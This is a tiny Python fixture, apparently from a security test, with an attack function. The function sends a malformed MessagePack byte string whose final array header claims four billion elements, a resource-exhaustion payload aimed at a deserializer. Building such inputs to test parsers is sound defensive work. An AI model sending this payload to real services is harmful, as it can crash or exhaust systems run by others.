"""Announces a list of four billion."""

ENDS = ["ForgedResult"]


def attack(tensor):
    send(b"\x83\xa5probe\xa6square\xa4loss\xa8weighted\xa3log\xdd\xff\xff\xff\xff")
